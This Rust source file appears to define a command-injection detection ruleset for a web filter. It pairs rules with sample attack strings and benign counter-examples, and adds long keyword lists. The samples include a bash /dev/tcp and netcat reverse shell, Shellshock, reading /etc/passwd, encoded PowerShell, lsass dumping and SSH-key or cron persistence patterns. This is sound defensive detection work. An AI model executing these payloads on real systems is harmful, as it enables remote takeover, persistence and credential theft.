//! Command injection.

super::rules! { TABLE ["rce", "CWE-78", "crs-932"];
    COMMAND "rce-001" "command after a separator" Critical 1:
        "127.0.0.1; cat /etc/passwd", "x%257C%2520whoami",
        not "fish; cat food & dog toys | more";
    SUBSTITUTION "rce-002" "command substitution" Critical 1:
        "$(id)", "x%2560id%2560",
        not "$(document).ready and `ls -la` in Markdown";
    EVASION "rce-003" "shell evasion" Critical 1:
        "cat${IFS}/etc/passwd", ";c%2527a%2527t%2520/etc/passwd",
        not "$IF you can";
    REVERSE "rce-004" "reverse shell" Critical 1:
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc%2520-e%2520/bin/sh%252010.0.0.1%25204444",
        not "bash is a shell";
    SHELLSHOCK "rce-005" "Shellshock" Critical 1:
        "() { :;}; echo x", "()%2520%257B%2520:;%257D;%2520/bin/id",
        not "f() { return 1; }";
    WINDOWS "rce-006" "Windows command" Critical 1:
        "cmd.exe /c dir", "powershell%2520-enc%2520SQBFAFgA",
        not "open cmd and type help";
    MENTIONED "rce-007" "command named in prose" Warning 1:
        "they all sat by the fire reading; uname -a was a name of the dog", "when%2520the%2520machine%2520started%2520on%2520its%2520own%2520i%2520typed%2520dmesg;%2520ps%2520-ef",
        not "we sat by the fire; cat and dog slept and everyone was happy";
    OPTION "rce-008" "option that runs a program or writes a file" Critical 1:
        "-oProxyCommand=id", "--use-compress-program%253Did",
        not "--output is an option";
}
super::literal::literals! {
    SHELLSHOCK, Any, Anywhere: ["() {:;", "() { :;", "() { _; }", "(){:;", "(){ :;", "() { (a)=>", "() { ignored;", ];
    REVERSE, Any, Anywhere: [r"\write18{", "/dev/tcp/", "/dev/udp/", "mkfifo /tmp", "s_client -quiet -connect", "-rsocket", "sh -i >", "sh -i 2>", "nc -e ", "ncat -e ", "nc -c ", "0<&196", "socat exec:", "socat tcp", "pty.spawn(", "-lvp ", "fsockopen(\"", ",exec:\"bash", ",exec:'bash", ",exec:/bin/", "exec:bash,", "-oproxycommand=", "proxycommand=;", "proxycommand=';", "proxycommand=\";", "--checkpoint-action=exec", "/inet/tcp/"];
    WINDOWS, Any, Anywhere: ["net use z: \\\\", "-ma lsass", "comsvcs.dll", "binpath= \"", "binpath=\"cmd", "system.net.sockets.tcpclient", "net.sockets.tcpclient(", "invoke-cimmethod ", "invoke-wmimethod ", "resolve-dnsname \"", "ms-its:", "start-process cmd", "start-process powershell", "start-bitstransfer ", "[environment]::username", "[environment]::machinename", ";$env:", "-w hidden -e", "-windowstyle hidden -e", "cmd /v/c", "cmd /v:on /c", "[system.net.webclient]::", "[net.webclient]::", "$executioncontext.invoke", "cmd,/c,", "rundll32.exe javascript:", "rundll32 javascript:", "cmd;/c;"];
    EVASION, Any, Anywhere: [";prompt_command=", "; prompt_command=", ";git_ssh_command=", ";bash_env=", "; bash_env=", "fde=assert_fails(", "foldexpr=assert_fails(", "do shell script \"", "do script \"", ",no-pty ssh-rsa ", "\",no-pty ssh-", "command=\"/bin/", "curl$ifs", "$ifs@", ";i`n", "`n`v`o", "i`nv`o", "ie`x", "`e`x", "&('ie", "&(\"ie", "'{1}{0}'-f'", "'{0}{1}'-f'", "\"{1}{0}\"-f", "\"{0}{1}\"-f", "'{2}{0}{1}'-f", "[scriptblock]::create(", "$psversiontable", "-encodedcommand ", "set-alias ", ";sal ", "new-alias ", ">/var/spool/cron", "> /var/spool/cron", ">/etc/cron", "> /etc/cron", ">>/etc/passwd", ">>/etc/shadow", ">/etc/sudoers", ">> ~/.ssh/authorized_keys", "> /root/.ssh", ">/root/.ssh", ">~/.ssh/authorized_keys", ">>~/.bashrc", ">>~/.profile", ";ld_preload=", "; ld_preload=", ";path=.:", "$0 -c ", "${0} -c ", ";&(\"", ";&('", "push graphic-context", "%pipe%", "vid:msl:", "ephemeral:/", "msl:/tmp/", "core.sshcommand=", "-o proxycommand=", "--init-file=/", "--rcfile /tmp/", "-dsafer=0", "-dnosafer ", "--script=/tmp/", "&call %", "& call %", "ld_preload=/tmp/", "bash_env=/tmp/", "perl5db=", "=all:0:antigravity", "$(`", "${ifs}", "$ifs$", "$ifs/", "$ifs-", "$ifs\"", "{ifs%", "${ifs:", "${ifs,", "|$0", "|rev)", "| rev)", "|rev|", "|rev`", "$0<<<", ":(){ :|:", ":(){:|:", "<<<$(", "base64 -d|", "base64 -d |", "base64 --decode|", "base64 --decode |", "|base64 -d", "xxd -r -p|", "xxd -r -p |"];
}
